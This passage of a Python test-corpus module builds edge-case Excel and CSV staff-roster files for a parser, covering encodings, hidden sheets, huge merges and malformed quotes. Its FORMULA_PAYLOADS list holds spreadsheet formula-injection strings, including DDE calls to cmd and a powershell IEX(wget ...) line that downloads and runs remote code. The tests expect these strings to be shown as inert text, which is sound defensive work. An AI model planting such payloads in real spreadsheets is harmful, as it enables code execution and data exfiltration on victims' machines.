    people = list(PEOPLE)
    people[1] = (people[1][0], "SITI\x00 AMI\x07NAH\x1b", people[1][2])
    path = _csv_roster(folder, "pegawai_kontrol.csv", people)
    return Case("control characters and NUL in text", path, ROSTER, people=3, expect_text=("SITI AMINAH",))


LONG_NAME = ("BUDI SANTOSO " + "BIN ABDULLAH " * 3100)[:40_000]


@case
def case_40000_character_cell(folder: Path) -> Case:
    """A name of 40,000 characters, more than a cell of Excel holds (written by hand: openpyxl
    cuts what it writes at 32,767): not a name, the row is reported and skipped."""

    def name_cell(number: int, name: str) -> str:
        return cell(f"C{number}", LONG_NAME if number == 4 else name)

    path = write(folder, "sel_panjang.xlsx", hand_roster(name_cell=name_cell))
    return Case(
        "a 40,000-character cell", path, ROSTER, people=2,
        warnings=(r"^sheet 'Pegawai', row 4, column 'NAMA': error: 40000 characters \(at most 500 expected\): row skipped$",),
    )  # fmt: skip


@case
def case_numbers_where_text_belongs(folder: Path) -> Case:
    """A NIP typed as a number (its last digits lost) and a phone number without its 0."""
    rows = [list(ROSTER_HEADER) + ["TELEPON"]] + [
        [n, float(nip) if n == 1 else nip, name, unit, 81234567890 + n] for n, (nip, name, unit) in enumerate(PEOPLE, 1)
    ]
    path = write(folder, "nip_angka.xlsx", openpyxl_bytes(rows))
    return Case(
        "numbers where text belongs", path, ROSTER, people=3,
        warnings=(r"^sheet 'Pegawai', row 2, column 'NIP': warning: NIP .*first 15 digits",),
    )  # fmt: skip


_FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")
_ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


@case
def case_full_width_and_arabic_indic_digits(folder: Path) -> Case:
    people = list(PEOPLE)
    people[0] = (people[0][0].translate(_FULL_WIDTH), *people[0][1:])
    people[2] = (people[2][0].translate(_ARABIC_INDIC), *people[2][1:])
    path = write(folder, "nip_digit_asing.xlsx", openpyxl_bytes(roster_rows(people)))
    return Case("full-width and Arabic-Indic digits", path, ROSTER, people=3, absent=(r"NIP",))


@case
def case_zero_width_characters_and_boms(folder: Path) -> Case:
    rows = sign_rows()
    rows[1][1] = "\u200b" + rows[1][1][:8] + "\ufeff" + rows[1][1][8:] + "\u200d"
    rows[1][2] = "\ufeffAHMAD\u200b FAUZI"
    path = write(folder, "ttd_lebar_nol.xlsx", openpyxl_bytes(rows, title="TTD"))
    return Case("zero-width characters and BOMs inside values", path, SIGNATURES, signed=1, absent=(r"NIP",))


@case
def case_merged_cells(folder: Path) -> Case:
    """A two-row merged header, and the unit merged down over its staff."""
    rows = [["NO", "PEGAWAI", None, "UNIT KERJA"], [None, "NIP", "NAMA", None]]
    rows += [[n, nip, name, "Dinas Kesehatan" if n == 1 else None] for n, (nip, name, _) in enumerate(PEOPLE, 1)]
    wb = _workbook(rows, title="Pegawai")
    for ref in ("A1:A2", "B1:C1", "D1:D2", "D3:D5"):
        wb.active.merge_cells(ref)
    path = write(folder, "sel_gabung.xlsx", _workbook_bytes(wb))
    return Case(
        "merged cells", path, ROSTER, people=3,
        warnings=(
            r"^sheet 'Pegawai', row 3, column 'UNIT KERJA': warning: merged cells D3:D5: only row 3 holds the value; "
            r"rows 4-5 read as empty in this column",
        ),
    )  # fmt: skip


@case
def case_huge_vertical_merges(folder: Path) -> Case:
    """1,000 ranges merged down to about Excel's last row: each is warned about as it claims,
    in no more time than a small one (counting their rows one by one took two minutes)."""
    refs = "".join(f'<mergeCell ref="D{2 + n % 3}:D{1_048_576 - n}"/>' for n in range(1000))
    merges = f'<mergeCells count="1000">{refs}</mergeCells>'
    path = write(folder, "gabung_raksasa.xlsx", hand_roster(sheet={"after": merges}))
    return Case(
        "1,000 huge vertical merges", path, ROSTER, people=3,
        warnings=(
            r"^sheet 'Pegawai', row 2, column 'UNIT KERJA': warning: merged cells D2:D1048576: only row 2 holds the "
            r"value; rows 3-1048576 read as empty in this column",
            r"^sheet 'Pegawai', row 4, column 'UNIT KERJA': warning: merged cells D4:D1048574: only row 4 holds the "
            r"value; rows 5-1048574 read as empty in this column",
        ),
    )  # fmt: skip


@case
def case_hidden_rows(folder: Path) -> Case:
    wb = _workbook(roster_rows(), title="Pegawai")
    for number in (3, 4):
        wb.active.row_dimensions[number].hidden = True
    path = write(folder, "baris_tersembunyi.xlsx", _workbook_bytes(wb))
    return Case(
        "hidden rows", path, ROSTER, people=3,
        warnings=(r"^sheet 'Pegawai', row 3: warning: rows 3-4 are hidden in Excel and were read; unhide them",),
    )  # fmt: skip


@case
def case_hidden_sheet(folder: Path) -> Case:
    wb = _workbook(roster_rows(PEOPLE[:2]), title="Pegawai")
    hidden = wb.create_sheet("Pensiun")
    for values in roster_rows(PEOPLE[2:]):
        hidden.append(values)
    hidden.sheet_state = "hidden"
    path = write(folder, "sheet_tersembunyi.xlsx", _workbook_bytes(wb))
    return Case(
        "a hidden sheet", path, ROSTER, people=2,
        warnings=(r"^sheet 'Pensiun': warning: hidden sheet 'Pensiun' was not read \(unhide it in Excel",),
    )  # fmt: skip


# --- CSV ----------------------------------------------------------------------------------------


@case
def case_csv_utf8_with_bom(folder: Path) -> Case:
    path = write(folder, "pegawai_bom.csv", codecs.BOM_UTF8 + csv_text(roster_rows()).encode())
    return Case("CSV in UTF-8 with a BOM", path, ROSTER, people=3)


@case
def case_csv_windows_1252(folder: Path) -> Case:
    people = [(nip, name.replace("SITI", "SITÏ"), unit.replace("Kesehatan", "Kesehatan é")) for nip, name, unit in PEOPLE]
    path = write(folder, "pegawai_1252.csv", csv_text(roster_rows(people), ";"), encoding="cp1252")
    return Case("CSV in Windows-1252", path, ROSTER, people=3, expect_text=("SITÏ AMINAH",))


@case
def case_csv_utf16_with_tabs(folder: Path) -> Case:
    path = write(folder, "pegawai_utf16.txt", csv_text(roster_rows(), "\t"), encoding="utf-16")
    return Case("CSV in UTF-16 with tabs", path, ROSTER, people=3)


@case
def case_csv_semicolons(folder: Path) -> Case:
    people = [(nip, name + ", S.Pd.", unit) for nip, name, unit in PEOPLE]
    path = write(folder, "pegawai_titik_koma.csv", csv_text(roster_rows(people), ";"))
    return Case("CSV with semicolons", path, ROSTER, people=3)


@case
def case_csv_cr_line_ends(folder: Path) -> Case:
    path = write(folder, "pegawai_cr.csv", csv_text(roster_rows(), ",", "\r"))
    return Case("CSV with CR-only line ends", path, ROSTER, people=3)


@case
def case_csv_unbalanced_quote(folder: Path) -> Case:
    text = csv_text(roster_rows()).replace("SITI AMINAH", '"SITI AMINAH')
    path = write(folder, "pegawai_kutip.csv", text + csv_text([[9, "", f"PEGAWAI {n}", "Dinas"] for n in range(50)]))
    return Case(
        "CSV with an unbalanced quote", path, ROSTER, 3,
        r"pegawai_kutip\.csv, row 3: unbalanced quote: the field opened with \" at line 3 is never closed",
    )  # fmt: skip


@case
def case_csv_field_beyond_the_csv_module_limit(folder: Path) -> Case:
    """A 300,000-character field: more than the csv module's default (131,072), less than ours."""
    rows = [list(ROSTER_HEADER) + ["CATATAN"]] + [
        [n, nip, name, unit, "x" * 300_000 if n == 2 else ""] for n, (nip, name, unit) in enumerate(PEOPLE, 1)
    ]
    path = write(folder, "pegawai_catatan.csv", csv_text(rows))
    return Case("CSV field beyond the csv module's limit", path, ROSTER, people=3)


@case
def case_csv_field_beyond_our_limit(folder: Path) -> Case:
    text = csv_text(roster_rows()) + '4,,"' + "x" * (1024 * 1024 + 10) + '",Dinas\r\n'
    path = write(folder, "pegawai_raksasa.csv", text)
    return Case(
        "CSV field beyond 1 MiB", path, ROSTER, 3,
        r"pegawai_raksasa\.csv, row 5: a field longer than 1 MiB starts at line 5",
    )  # fmt: skip


@case
def case_csv_nul_bytes(folder: Path) -> Case:
    text = csv_text(roster_rows()).replace("AHMAD", "AH\0MAD").replace("\r\n", "\0\r\n")
    path = write(folder, "pegawai_nul.csv", text)
    return Case("CSV with NUL bytes", path, ROSTER, people=3)


#: Payloads that a spreadsheet program runs when a cell or CSV field starts with them.
FORMULA_PAYLOADS = (
    "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"Klik\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2 TAB",
    "\r=1+2 CR",
    "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
    "#N/A PALSU",
    "#DIV/0! PALSU",
)


@case
def case_csv_formula_payloads(folder: Path) -> Case:
    """Non-ASN staff (no NIP) named by formula payloads: they are listed, as inert text."""
    people = [*PEOPLE, *(("", payload, "Dinas Pendidikan") for payload in FORMULA_PAYLOADS)]
    path = _csv_roster(folder, "pegawai_rumus.csv", people)
    shown = tuple(p.strip() for p in FORMULA_PAYLOADS)
    return Case("CSV formula payloads", path, ROSTER, people=3 + len(FORMULA_PAYLOADS), expect_text=shown)


@case
def case_formula_payloads_as_signatures(folder: Path) -> Case:
    """Form responses from strangers named by payloads: listed as unmatched, as inert text."""
    header = ["Timestamp", "NIP", "Nama Lengkap", "Unit Kerja", "Saya menyatakan bersedia menandatangani ikrar"]
    rows = [header, ["15/01/2024 08:00:00", PEOPLE[0][0], PEOPLE[0][1], PEOPLE[0][2], "Ya"]]
    rows += [["15/01/2024 09:00:00", "", payload, "Dinas Pendidikan", "Ya"] for payload in FORMULA_PAYLOADS]
    path = write(folder, "formulir_rumus.csv", csv_text(rows))
    shown = tuple(p.strip() for p in FORMULA_PAYLOADS)
    return Case("formula payloads in form responses", path, SIGNATURES, signed=1, expect_text=shown)


# --- output side --------------------------------------------------------------------------------

_LONG_UNIT = "UPT Sekolah Dasar Negeri Nomor Satu Kecamatan Sukamaju Wilayah Pembinaan Pendidikan Dasar Bagian Utara"

#: Unit names that are not valid file or sheet names, and two that are equal once cut to
#: the longest file name (units are compared without case and punctuation: "Dinas A/B"
#: and "Dinas A-B" are one unit).
HOSTILE_UNITS = (
    "Dinas A/B",
    f"{_LONG_UNIT} Gedung A",
    f"{_LONG_UNIT} Gedung B",
    "Bagian: Umum*?",
    "[Sekretariat] Daerah",
    "Badan Perencanaan Pembangunan, Penelitian dan Pengembangan Daerah Kabupaten",
    "CON",
    "Dinas <PUPR> | \"Bidang\" Bina Marga.",
)


@case
def case_unit_names_that_are_not_file_names(folder: Path) -> Case:
    people = [(f"1985031520100110{n:02d}", f"PEGAWAI {chr(65 + n)}", unit) for n, unit in enumerate(HOSTILE_UNITS, 1)]
    path = write(folder, "unit_aneh.xlsx", openpyxl_bytes(roster_rows(people)))
    return Case("unit names that are not file names", path, ROSTER, people=len(HOSTILE_UNITS))


def case_id(make: CaseMaker) -> str:
    """A case's id for test names: its function's name without ``case_``."""
    return make.__name__.removeprefix("case_")


CASE_IDS = tuple(case_id(make) for make in CASES)


def write_corpus(folder: Path) -> dict[str, Case]:
    """Every case, written into ``folder``, by id."""
    folder.mkdir(parents=True, exist_ok=True)
    return {case_id(make): make(folder) for make in CASES}
